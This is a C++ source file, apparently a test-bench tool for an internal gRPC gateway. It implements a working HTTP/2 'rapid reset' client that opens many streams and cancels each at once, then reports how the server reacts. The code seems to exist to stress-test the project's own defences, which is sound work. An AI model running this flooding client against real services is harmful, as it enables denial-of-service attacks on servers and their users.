#include "tests/bench/rapid_reset/http2_attacker.h"

#include <arpa/inet.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstdlib>
#include <utility>

#include "absl/cleanup/cleanup.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "absl/strings/string_view.h"
#include "absl/time/clock.h"

namespace aulm::gateway {
namespace {

constexpr char kPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr uint8_t kHeaders = 1, kReset = 3, kSettings = 4, kPing = 6, kGoaway = 7;
constexpr uint8_t kAck = 1, kEndHeaders = 4;
constexpr uint32_t kCancel = 8;
constexpr size_t kFrameHeader = 9;
constexpr uint32_t kCallsAWrite = 64;

void AppendNumber(uint32_t number, int bytes, std::string& out) {
  for (int shift = (bytes - 1) * 8; shift >= 0; shift -= 8) out.push_back(static_cast<char>(number >> shift));
}

uint32_t ReadNumber(absl::string_view bytes) {
  uint32_t number = 0;
  for (const char byte : bytes) number = number << 8 | static_cast<uint8_t>(byte);
  return number;
}

void AppendFrame(uint8_t type, uint8_t flags, uint32_t stream, absl::string_view payload, std::string& out) {
  AppendNumber(static_cast<uint32_t>(payload.size()), 3, out);
  out.push_back(static_cast<char>(type));
  out.push_back(static_cast<char>(flags));
  AppendNumber(stream, 4, out);
  out.append(payload.data(), payload.size());
}

// A literal header field that no table keeps, with a name of HPACK's static table or, at 0, one that is written out.
void AppendHeader(uint8_t index, absl::string_view name, absl::string_view value, std::string& out) {
  out.push_back(static_cast<char>(index));
  if (index == 0) absl::StrAppend(&out, std::string(1, static_cast<char>(name.size())), name);
  absl::StrAppend(&out, std::string(1, static_cast<char>(value.size())), value);
}

// The header block of a GetQuota call.
std::string HeaderBlock() {
  std::string block = "\x83\x86";                                           // :method POST, :scheme http
  AppendHeader(0x04, "", "/aulm.gateway.v1.QuotaService/GetQuota", block);  // :path
  AppendHeader(0x01, "", "gateway", block);                                 // :authority
  block +=
      "\x0f\x10\x10"
      "application/grpc";  // content-type, index 31
  AppendHeader(0, "te", "trailers", block);
  return block;
}

// Reads what is there and answers what must be: settings and pings. False when the server has ended the connection.
class Reader {
 public:
  bool Take(int socket, std::string& reply, std::string& ended) {
    char bytes[1 << 14];
    while (true) {
      const ssize_t got = recv(socket, bytes, sizeof(bytes), MSG_DONTWAIT);
      if (got < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) return true;
      if (got <= 0) {
        if (ended == "done") ended = "closed by the server";
        return false;
      }
      unread_.append(bytes, static_cast<size_t>(got));
      if (!Parse(reply, ended)) return false;
    }
  }

 private:
  bool Parse(std::string& reply, std::string& ended) {
    while (unread_.size() >= kFrameHeader) {
      const absl::string_view frame = unread_;
      const size_t length = ReadNumber(frame.substr(0, 3));
      if (frame.size() < kFrameHeader + length) return true;
      const auto type = static_cast<uint8_t>(frame[3]);
      const bool is_ack = (static_cast<uint8_t>(frame[4]) & kAck) != 0;
      const absl::string_view payload = frame.substr(kFrameHeader, length);
      if (type == kSettings && !is_ack) AppendFrame(kSettings, kAck, 0, "", reply);
      if (type == kPing && !is_ack) AppendFrame(kPing, kAck, 0, payload, reply);
      if (type == kGoaway && length >= 8) {
        ended = absl::StrCat("GOAWAY ", ReadNumber(payload.substr(4, 4)));
        return false;
      }
      unread_.erase(0, kFrameHeader + length);
    }
    return true;
  }

  std::string unread_;
};

int Connect(const std::string& address) {
  const std::pair<std::string, std::string> parts = absl::StrSplit(address, ':');
  uint32_t port = 0;
  sockaddr_in peer{};
  peer.sin_family = AF_INET;
  const int socket = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!absl::SimpleAtoi(parts.second, &port) || inet_pton(AF_INET, parts.first.c_str(), &peer.sin_addr) != 1)
    std::abort();
  peer.sin_port = htons(static_cast<uint16_t>(port));
  if (connect(socket, reinterpret_cast<const sockaddr*>(&peer), sizeof(peer)) != 0) std::abort();
  return socket;
}

}  // namespace

ResetRun OpenAndReset(const std::string& address, uint32_t calls, absl::Duration limit) {
  const absl::Time begun = absl::Now();
  const int socket = Connect(address);
  const absl::Cleanup close_socket = [socket] { close(socket); };
  const std::string block = HeaderBlock();
  std::string reset;
  AppendNumber(kCancel, 4, reset);
  std::string out = kPreface;
  AppendFrame(kSettings, 0, 0, "", out);
  ResetRun run;
  Reader reader;
  while (run.opened < calls || !out.empty()) {
    if (absl::Now() - begun > limit) {
      run.ended = "stalled";
      break;
    }
    for (uint32_t i = 0; i < kCallsAWrite && run.opened < calls && out.size() < (1 << 14); ++i, ++run.opened) {
      const uint32_t stream = run.opened * 2 + 1;
      AppendFrame(kHeaders, kEndHeaders, stream, block, out);
      AppendFrame(kReset, 0, stream, reset, out);
    }
    if (!reader.Take(socket, out, run.ended)) break;
    const ssize_t sent = send(socket, out.data(), out.size(), MSG_DONTWAIT | MSG_NOSIGNAL);
    if (sent > 0) {
      out.erase(0, static_cast<size_t>(sent));
    } else if (errno == EAGAIN || errno == EWOULDBLOCK) {
      pollfd waiting{socket, POLLIN | POLLOUT, 0};
      poll(&waiting, 1, 100);
    } else {
      run.ended = "closed by the server";
      break;
    }
  }
  run.took = absl::Now() - begun;
  return run;
}

}  // namespace aulm::gateway
